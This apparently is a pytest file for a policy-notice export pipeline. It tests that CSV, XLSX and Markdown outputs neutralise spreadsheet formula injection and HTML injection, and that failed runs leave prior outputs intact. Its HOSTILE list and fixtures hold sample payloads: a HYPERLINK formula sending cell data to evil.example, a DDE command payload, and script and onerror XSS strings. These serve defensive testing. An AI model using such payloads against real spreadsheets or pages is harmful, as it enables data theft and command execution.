"""Hostile text from a notice cannot become a spreadsheet formula or live HTML; a failed run
leaves the previous outputs as they were."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from pipeline.exporters import export
from pipeline.analysis.diff import diff_documents
from pipeline.exporters.diff_report import diff_to_csv, diff_to_markdown
from pipeline.analysis.matrix import WIDE_KEY_COLUMNS, documents_to_long, documents_to_wide
from pipeline.exporters.summary import render_summary

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = tuple("=+-@\t\r")


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("省发改委", "省发改委"), ("a=1", "a=1"), ("", ""), (-1, -1), (None, None)],
)
def test_export_safe_cell_prefixes_formula_starts_only(value, expected):
    assert export.safe_cell(value) == expected


@pytest.fixture(scope="module")
def hostile_doc(doc2023):
    items = []
    for k, item in enumerate(doc2023.items):
        bad = HOSTILE[k % len(HOSTILE)]
        responsibilities = tuple(replace(r, unit=bad + r.unit, unit_raw=bad) for r in item.responsibilities[:1]) + item.responsibilities[1:]
        items.append(replace(item, title=bad + item.title, responsibilities=responsibilities))
    return replace(doc2023, id="=evil()", items=tuple(items), meta=replace(doc2023.meta, title="<script>alert(1)</script>", plan_title="<img src=x onerror=alert(1)>"))


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_xlsx_of_hostile_text_has_no_formula_cell(tmp_path, hostile_doc):
    from openpyxl import load_workbook

    path = export.write_xlsx(tmp_path / "m.xlsx", documents_to_wide([hostile_doc]), key_columns=len(WIDE_KEY_COLUMNS))
    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for bad in HOSTILE:
        assert any(t.startswith("'" + bad) for t in texts), bad  # kept, as text
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("kind", ["long", "wide"])
def test_matrix_csv_of_hostile_text_has_no_formula_cell(tmp_path, hostile_doc, kind):
    frame = (documents_to_long if kind == "long" else documents_to_wide)([hostile_doc])
    with open(export.write_csv(tmp_path / "m.csv", frame), encoding="utf-8-sig", newline="") as handle:
        text = handle.read()  # newline="": a carriage return inside a cell stays one
    cells = _csv_cells(text)
    kept = {bad.replace("\r", "\n") for bad in HOSTILE}  # a carriage return in a CSV cell is a newline
    assert {bad for bad in kept if any(c.startswith("'" + bad) for c in cells)} == kept
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []


def test_diff_csv_of_hostile_text_has_no_formula_cell(doc2023, hostile_doc):
    cells = _csv_cells(diff_to_csv(diff_documents(doc2023, hostile_doc)))
    assert sum(c.startswith("'@SUM") for c in cells) > 0
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []


def test_markdown_outputs_escape_html(doc2023, hostile_doc):
    hostile_doc = replace(hostile_doc, items=(replace(hostile_doc.items[0], title="<script>alert(1)</script>"),) + hostile_doc.items[1:])
    for text in (diff_to_markdown(diff_documents(doc2023, hostile_doc)), render_summary([hostile_doc])):
        assert "<script" not in text and "<img" not in text
        assert "&lt;script&gt;" in text or "&lt;img src=x" in text


def _snapshot(folder: Path) -> dict[str, bytes]:
    """The outputs, without the store (which a run updates in its own transactions before writing)."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file() and not p.name.startswith("fengong.db")}


def test_run_failing_half_way_leaves_the_previous_outputs(tmp_path, monkeypatch):
    import shutil

    from conftest import NOTICE_2023, NOTICE_2024
    from pipeline.batch import run_corpus

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for notice in (NOTICE_2023, NOTICE_2024):
        shutil.copy(notice, corpus / notice.name)
    out = tmp_path / "out"
    run_corpus(corpus, out)
    (out / "README.md").write_text("mine\n")
    before = _snapshot(out)
    (corpus / NOTICE_2024.name).unlink()
    (corpus / "third.txt").write_text(NOTICE_2023.read_text("utf-8") + "\n")

    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "write_graph", broken)
    with pytest.raises(OSError):
        run_corpus(corpus, out)
    assert _snapshot(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["corpus", "out"]  # no staging folder left
    monkeypatch.undo()
    (out / "summary.md").write_text("stale\n")  # an output of the previous run is replaced, not carried over
    report = run_corpus(corpus, out)
    after = _snapshot(out)
    assert after["summary.md"] != b"stale\n"
    from pipeline.batch import RUN_OUTPUTS

    assert {p.split("/")[0] for p in after} - {"README.md"} <= set(RUN_OUTPUTS)  # every output is named in RUN_OUTPUTS
    assert "documents/third.json" in after and f"documents/{Path(NOTICE_2024.name).stem}.json" not in after  # no stale file
    assert after["README.md"] == b"mine\n" and (out / "fengong.db").exists()  # the store and other files carried over
    assert all(Path(p).exists() and Path(p).is_relative_to(out) for p in report.written)


def test_run_failing_while_gathering_stops_the_process_writing_beside_it(tmp_path, monkeypatch):
    # The diffs are made by a forked process while the rows are gathered: when the
    # gathering fails, that process is stopped, and nothing is written after the staging folder is gone.
    import multiprocessing
    import shutil
    import time

    from conftest import NOTICE_2023, NOTICE_2024
    from pipeline.analysis import matrix
    from pipeline.batch import run_corpus
    from pipeline.settings import Settings

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for notice in (NOTICE_2023, NOTICE_2024):
        shutil.copy(notice, corpus / notice.name)

    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(matrix, "documents_to_rows", broken)
    with pytest.raises(OSError):
        run_corpus(corpus, tmp_path / "out", Settings(workers=2), db_path=tmp_path / "store.db")
    assert multiprocessing.active_children() == []  # stopped, not left to write its diffs
    time.sleep(0.5)
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("store.db")) == ["corpus"]
